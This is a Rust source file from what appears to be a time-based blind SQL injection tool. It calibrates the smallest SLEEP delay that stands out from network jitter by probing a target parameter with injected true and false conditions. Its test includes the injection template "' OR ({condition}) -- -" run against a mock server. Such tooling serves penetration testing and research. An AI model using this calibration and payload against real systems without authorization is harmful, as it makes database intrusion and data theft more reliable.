//! Adaptive delay calibration: picks the smallest `SLEEP` duration that is
//! reliably distinguishable from network jitter against a given target
//! (§4.3), grounded in `statsqli.adaptive.AdaptiveDelayDetector`.

use std::time::Duration;

use reqwest::Client;
use url::Url;

use crate::core::config::CalibratorConfig;

use super::payload::PayloadTemplate;
use super::probe::{build_client, probe};

const BASELINE_SAMPLES: usize = 10;
const CANDIDATE_SAMPLES: usize = 5;

#[derive(Debug, Clone, Copy)]
pub struct CalibrationOutcome {
    pub delay_secs: f64,
    pub fallback_used: bool,
}

pub struct Calibrator {
    client: Client,
    base_url: Url,
    param: String,
    template: PayloadTemplate,
}

impl Calibrator {
    pub fn new(
        base_url: Url,
        param: impl Into<String>,
        template: PayloadTemplate,
        request_timeout: Duration,
    ) -> reqwest::Result<Self> {
        Ok(Self {
            client: build_client(request_timeout)?,
            base_url,
            param: param.into(),
            template,
        })
    }

    async fn probe_many(&self, payload: &str, samples: usize) -> Vec<f64> {
        let mut out = Vec::with_capacity(samples);
        for _ in 0..samples {
            out.push(probe(&self.client, &self.base_url, &self.param, payload).await);
        }
        out
    }

    /// Measures an untainted baseline, then walks candidate delays from
    /// `min_delay_secs` to `max_delay_secs` in `step_secs` increments until
    /// one produces a probe mean clearly above jitter. Falls back to
    /// `fallback_delay_secs` (flagged via `fallback_used`) when nothing in
    /// range is detectable.
    pub async fn detect_optimal_delay(&self, cfg: &CalibratorConfig) -> CalibrationOutcome {
        let baseline_payload = self.template.instantiate("1=0");
        let baseline = self.probe_many(&baseline_payload, BASELINE_SAMPLES).await;
        let (mean0, var0) = mean_and_variance(&baseline);
        let std0 = var0.sqrt();
        let detection_threshold = cfg.detection_factor * (mean0 + 3.0 * std0);

        tracing::debug!(
            baseline_mean = mean0,
            baseline_stdev = std0,
            threshold = detection_threshold,
            "calibration baseline measured"
        );

        let mut delay = cfg.min_delay_secs;
        while delay <= cfg.max_delay_secs + f64::EPSILON {
            let payload = self.template.instantiate_for_oracle("1=1", delay);
            let samples = self.probe_many(&payload, CANDIDATE_SAMPLES).await;
            let (mean, _) = mean_and_variance(&samples);

            tracing::debug!(delay, mean, "calibration candidate measured");

            if mean > detection_threshold {
                tracing::info!(delay, "calibration selected delay");
                return CalibrationOutcome {
                    delay_secs: delay,
                    fallback_used: false,
                };
            }

            delay += cfg.step_secs;
        }

        tracing::warn!(
            fallback = cfg.fallback_delay_secs,
            "no candidate delay was reliably detectable, using fallback"
        );
        CalibrationOutcome {
            delay_secs: cfg.fallback_delay_secs,
            fallback_used: true,
        }
    }
}

fn mean_and_variance(samples: &[f64]) -> (f64, f64) {
    let n = samples.len() as f64;
    let mean = samples.iter().sum::<f64>() / n;
    if samples.len() < 2 {
        return (mean, 0.0);
    }
    let variance = samples.iter().map(|x| (x - mean).powi(2)).sum::<f64>() / (n - 1.0);
    (mean, variance)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[tokio::test]
    async fn falls_back_when_target_never_delays() {
        let mut server = mockito::Server::new_async().await;
        let _m = server
            .mock("GET", mockito::Matcher::Any)
            .with_status(200)
            .create_async()
            .await;

        let template = PayloadTemplate::parse("' OR ({condition}) -- -").unwrap();
        let calibrator = Calibrator::new(
            Url::parse(&server.url()).unwrap(),
            "id",
            template,
            Duration::from_secs(2),
        )
        .unwrap();

        let cfg = CalibratorConfig {
            min_delay_secs: 0.1,
            max_delay_secs: 0.3,
            step_secs: 0.1,
            detection_factor: 1.5,
            fallback_delay_secs: 1.0,
            default_workers: 4,
        };

        let outcome = calibrator.detect_optimal_delay(&cfg).await;
        assert!(outcome.fallback_used);
        assert_eq!(outcome.delay_secs, 1.0);
    }
}
